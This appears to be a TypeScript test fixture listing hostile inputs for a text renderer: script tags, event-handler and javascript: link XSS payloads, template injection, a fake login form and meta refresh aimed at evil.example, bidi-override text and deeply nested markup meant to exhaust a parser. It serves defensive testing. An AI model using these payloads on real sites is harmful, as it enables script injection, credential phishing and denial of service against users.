/** What a player might write to do harm to readers. Each that runs sets `window.harmed`. */
export const HOSTILE: Readonly<Record<string, string>> = {
  script: 'Before <script>window.harmed = 1</script> after',
  'script in pieces': '<scr<script>ipt>window.harmed = 1</scr</script>ipt>',
  handler: '<img src="x" onerror="window.harmed = 1"><b onmouseover="window.harmed = 1">bold</b>',
  'javascript link': '[press me](javascript:window.harmed=1) <a href="javascript:window.harmed=1">or me</a>',
  'hidden scheme': '[tab](java\tscript:window.harmed=1) [data](data:text/html,<script>1</script>)',
  svg: '<svg onload="window.harmed = 1"><script>window.harmed = 1</script></svg>',
  'picture that is a script':
    '![cat](data:image/svg+xml;base64,PHN2Zy8+) ![away](https://evil.example/pixel.png)',
  style: '<style>body { display: none }</style><p style="position:fixed;inset:0;background:red">cover</p>',
  frame: '<iframe src="https://evil.example/"></iframe><object data="x"></object><embed src="x">',
  form: '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>',
  meta: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  'takes over an id': '<a id="content" name="content">here</a> <p id="toc">there</p>',
  'ends the page': '</div></main></body></html><h1>Mine now</h1>',
  comment: '<!-- <p>--><script>window.harmed = 1</script>-->',
  'turned around': 'I vote \u202eTSNIAGA\u202c and \u2066mean\u2069 it',
  'tower of accents': `H${'\u0336\u0347\u0300'.repeat(100)}i`,
  'giant table': `|${' a |'.repeat(60)}\n|${' - |'.repeat(60)}\n${`|${' long-long-cell |'.repeat(60)}\n`.repeat(6)}`,
  'one long word': 'a'.repeat(5_000),
  'quotes in quotes': `${'>'.repeat(1_000)} deep`,
  'lists in lists': Array.from({ length: 235 }, (_, depth) => `${'  '.repeat(depth)}- deep`).join('\n'),
  'lists as deep as they are read': Array.from(
    { length: 60 },
    (_, depth) => `${'  '.repeat(depth)}- deep`,
  ).join('\n'),
  'quotes as deep as they are read': `${'> '.repeat(39)} deep`,
  'brackets in brackets': `${'['.repeat(1_000)}deep${']'.repeat(1_000)}`,
  'stars in stars': `${'**a '.repeat(1_000)}${'** '.repeat(1_000)}`,
  headings: '# One\n\n#\n\n###### Six\n\n# Again',
  'empty link': '[](https://example.org/) [broken](#nowhere) [away](../../secret)',
  footnotes: 'See[^1].\n\n[^1]: A note.',
  'live value': '[48](#value:"><script>window.harmed=1</script>)',
  template: '{{constructor.constructor("window.harmed=1")()}} ${window.harmed=1} {window.harmed=1}',
};

/** What fits into a title or a name, which is one line. */
export const HOSTILE_LINE =
  '<script>window.harmed=1</script> "><img src=x onerror=window.harmed=1> \u202eeman';
